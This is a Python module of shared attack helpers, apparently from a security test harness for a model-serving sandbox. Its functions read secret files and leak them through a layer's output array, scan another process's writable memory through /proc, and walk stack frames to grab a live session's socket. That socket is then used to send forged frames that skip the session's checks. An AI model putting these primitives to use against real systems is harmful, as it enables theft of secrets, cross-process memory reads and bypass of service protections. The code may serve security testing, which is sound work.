"""What an attacker is assumed to know of the machine (`facts`, written for each run), and tools many attacks share."""

import ctypes
import hashlib
import os
import sys
import time

import numpy as np

from facts import *  # noqa: F403

LIBC = ctypes.CDLL(None, use_errno=True)


def leak(data, out):
    """Bytes as a return value: an array of the right shape that starts with them."""
    values = np.zeros(out.shape, np.uint8)
    raw = np.frombuffer(bytes(data)[: values.size], np.uint8)
    values.reshape(-1)[: raw.size] = raw
    return values


def read(path):
    with open(path, "rb") as file:
        return file.read()


def through_link(out):
    """What a link that was handed in beside this leads to; the layer's own value if there is none."""
    for name in ("secret.txt", "secrets/results.json"):
        try:
            return leak(read(os.path.join(os.path.dirname(__file__), name)), out)
        except OSError:
            continue
    return out


def linger():
    """Stay so for a moment, so that whoever looks can see it."""
    time.sleep(0.25)


def call(name, *args):
    """A C function; raises OSError."""
    result = getattr(LIBC, name)(*args)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def syscall(number, *args):
    return call("syscall", ctypes.c_long(number), *args)


def scan(pid, prefix):
    """Every place in a process's writable memory that starts with `prefix`, 96 bytes each."""
    found = []
    with open(f"/proc/{pid}/maps") as maps:
        spans = [line.split() for line in maps]
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for span in spans:
            start, end = (int(n, 16) for n in span[0].split("-"))
            if not span[1].startswith("rw") or end - start > 1 << 28 or len(span) > 5 and span[5].startswith("[v"):
                continue
            try:
                data = os.pread(memory.fileno(), end - start, start)
            except OSError:
                continue
            at = data.find(prefix)
            while at >= 0 and len(found) < 200:
                found.append(data[at : at + 96])
                at = data.find(prefix, at + 1)
    return b"".join(found)


def serving():
    """The session object that is just answering a request, by the frames above this one."""
    frame = sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Session" and hasattr(owner, "_socket"):
            return owner
        frame = frame.f_back
    raise LookupError


def send(header, tail=b""):
    """A frame of the attacker's own making, past all checks of the session."""
    serving()._socket.sendall(len(header).to_bytes(4, "little") + header + tail)


def proof(x):
    """Work that nobody can do without the processor: a hash chain over the input; as bytes."""
    digest = bytes(np.ascontiguousarray(x).tobytes()[:64])
    for _ in range(WORK):  # noqa: F405
        digest = hashlib.sha256(digest).digest()
    return digest
